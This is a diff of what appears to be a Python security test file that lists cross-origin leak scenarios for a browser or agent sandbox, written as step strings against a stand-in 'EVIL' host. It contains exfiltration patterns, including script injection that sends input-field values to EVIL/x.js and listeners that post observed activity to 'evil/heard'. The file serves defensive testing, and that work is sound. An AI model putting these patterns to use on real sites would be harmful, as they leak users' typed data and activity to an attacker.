@@ -192,11 +192,14 @@ READS: dict[str, str] = {
     "what answers a form of another page": "open EVIL/post ;; click #send ;; look",
     "a request of clz's own": "open EVIL/ ;; ask MAIL/message",
     "a page that a worker keeps": "open MAIL/kept ;; look",
+    "what another page passes on": f"open EVIL/passing ;; click #go ;; wait document.title == 'Passed' ;; {LATER}",
+    "what a script of another page passes on": "open EVIL/scripting ;; click #go ;; wait document.title == 'Passed' ;; "
+    f"{LATER}",
+    "a proxy": "open-through http://127.0.0.1:PORT -> MAIL/message",
 }
 
-# What a fence does not hold: pages that were open before the mail was read hear of what an agent does elsewhere, and
-# tell it by scripts, which may come from anywhere.
-GAPS: dict[str, Goal] = {
+# Pages that were open before the mail was read hear of what an agent does elsewhere, and would tell it by scripts.
+LISTENERS: dict[str, Goal] = {
     "how wide the window is": Goal(Kind.TELL, f"resize ;; {LATER}", LISTENING, done="POST evil/heard"),
     "which tab is in front": Goal(Kind.TELL, f"front ;; {LATER}", LISTENING, done="POST evil/heard"),
     "how dialogs are answered": Goal(
@@ -217,10 +220,4 @@ GAPS: dict[str, Goal] = {
         "document.createElement('script'); script.src = 'EVIL/x.js?q=' + event.target.value; "
         "document.head.append(script); }",
     ),
-}
-READ_GAPS: dict[str, str] = {
-    "what another page passes on": f"open EVIL/passing ;; click #go ;; wait document.title == 'Passed' ;; {LATER}",
-    "what a script of another page passes on": "open EVIL/scripting ;; click #go ;; wait document.title == 'Passed' ;; "
-    f"{LATER}",
-    "a proxy": "open-through http://127.0.0.1:PORT -> MAIL/message",
 }
